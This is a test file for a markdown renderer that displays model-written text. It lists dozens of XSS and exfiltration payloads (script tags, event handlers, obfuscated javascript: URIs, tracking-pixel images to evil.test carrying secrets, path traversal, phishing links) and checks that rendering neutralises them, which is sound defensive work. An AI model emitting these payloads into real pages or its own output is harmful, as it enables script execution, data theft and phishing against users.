import i18next from 'i18next';
import { renderToStaticMarkup } from 'react-dom/server';
import { initReactI18next } from 'react-i18next';
import { beforeAll, describe, expect, it } from 'vitest';
import { corpus } from './corpus';
import { safeImage, safeLink } from './links';
import { parse } from './parse';
import { render } from './render';

beforeAll(async () => {
  await i18next.use(initReactI18next).init({ lng: 'en', resources: {} });
});

function html(source: string): string {
  return renderToStaticMarkup(render(parse(source), { open: false }));
}

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  'a <b onclick="alert(1)">b</b>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:x)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.test/1)',
  '[x](https://user:secret@evil.test/)',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](https://evil.test/pixel.png?q=secret)',
  '![x](//evil.test/pixel.png)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x][r]\n\n[r]: https://evil.test/pixel.png',
  '[![x](https://evil.test/pixel.png)](https://evil.test)',
  '![x](/api/v1/../../evil.png)',
  '![x](/api/v1/files/../../me)',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- <script>alert(1)</script>\n- ![](https://evil.test/a)',
  '> <style>*{display:none}</style>',
  '```html\n<script>alert(1)</script>\n```',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\\includegraphics{https://evil.test/a.png}$$',
  '[^1]\n\n[^1]: <img src=https://evil.test/a>',
  '<a href="https://evil.test" ping="https://evil.test/p">x</a>',
  '<https://evil.test/a>',
];

describe('what a model writes', () => {
  it.each(attacks)('becomes no element that runs, loads or leads astray: %s', (source) => {
    const out = html(source);
    expect(out).not.toMatch(/<(?:script|style|iframe|object|embed|svg\/|base|form|link|meta)\b/i);
    expect(out).not.toMatch(/<img\b/i);
    expect(out).not.toMatch(/<[^>]+\son\w+=/i);
    expect(out).not.toMatch(/<[^>]+\sping=/i);
    expect(out).not.toMatch(/href="(?!https?:\/\/|mailto:|#|\/)/i);
    for (const [, attributes] of out.matchAll(/<a ([^>]*)>/g)) {
      if (!attributes?.includes('href="http')) continue;
      expect(attributes).toContain('rel="noopener noreferrer nofollow ugc"');
    }
  });

  it('shows raw HTML as the text it is', () => {
    expect(html('a <b>c</b>')).toBe('<p>a &lt;b&gt;c&lt;/b&gt;</p>');
  });

  it('shows where a link really leads', () => {
    expect(html('[your bank](https://evil.test/login)')).toContain('(evil.test)');
    expect(html('[bank.test](https://evil.test/login)')).toContain('(evil.test)');
    expect(html('<https://evil.test/login>')).not.toContain('(evil.test)');
  });

  it('puts tables, lists, tasks, code and notes where they belong', () => {
    expect(html(corpus.table ?? '')).toContain('<th class="end">b</th>');
    expect(html('3. a\n4. b')).toContain('start="3"');
    expect(html(corpus.tasks ?? '')).toContain('type="checkbox"');
    expect(html('a[^1]\n\n[^1]: Note')).toContain('class="footnotes"');
    expect(html('# Big')).toContain('<h3');
  });

  it('takes money for money and formulas for formulas', () => {
    expect(html('It costs $5 or $10.')).toBe('<p>It costs $5 or $10.</p>');
    expect(html('So $a+b$ it is.')).toContain('<code dir="ltr">a+b</code>');
    expect(html('So \\(a+b\\) it is.')).toContain('<code dir="ltr">a+b</code>');
    expect(html('So \\[a+b\\] it is.')).toContain('math-block');
    expect(html('Write `\\(x\\)` for it.')).toContain('<code>\\(x\\)</code>');
  });

  it('gives citation numbers to whoever knows the sources', () => {
    const out = renderToStaticMarkup(
      render(parse('So it is. [1][2] And `[1]` is code.'), {
        open: false,
        citation: (index, raw) => (index === 1 ? <button type="button">{index}</button> : raw),
      }),
    );
    expect(out).toContain('<button type="button">1</button>[2]');
    expect(out).toContain('<code>[1]</code>');
  });

  it('marks a passage by its place in the source, across formatting', () => {
    const source = 'One **two** three.\n\nFour.';
    const start = source.indexOf('two');
    const end = source.indexOf(' three') + 3;
    const out = renderToStaticMarkup(
      render(parse(source), { open: false, highlight: { start, end } }),
    );
    expect(out).toContain('<strong><mark>two</mark></strong><mark> th</mark>ree.');
    expect(out).toContain('<p>Four.</p>');
  });

  it('marks code of a passage too', () => {
    const source = 'Set `PORT` first.\n\n```sh\nrun\n```\n\nThen `x`.';
    const out = renderToStaticMarkup(
      render(parse(source), { open: false, highlight: { start: 0, end: source.indexOf('Then') } }),
    );
    expect(out).toContain('<mark><code>PORT</code></mark>');
    expect(out).toContain('<div class="marked"><div class="code">');
    expect(out).toContain('<p>Then <code>x</code>.</p>');
  });

  it('does not choke on one endless line', () => {
    const line = '\\`*[_('.repeat(40_000);
    const begin = performance.now();
    html(line);
    expect(performance.now() - begin).toBeLessThan(1000);
  });
});

describe('addresses', () => {
  it('are let through when they are harmless', () => {
    expect(safeLink('https://example.org/a')).toEqual({
      href: 'https://example.org/a',
      host: 'example.org',
    });
    expect(safeLink('mailto:a@example.org')?.host).toBeNull();
    expect(safeLink('#note')?.href).toBe('#note');
    expect(safeLink('/docs')?.host).toBeNull();
  });

  it('of pictures are only those of files that this server keeps', () => {
    expect(safeImage('/api/v1/files/1')).toBe('http://localhost/api/v1/files/1');
    expect(safeImage('/api/v1/me')).toBeNull();
    expect(safeImage('https://localhost.evil.test/api/v1/files/1')).toBeNull();
  });
});
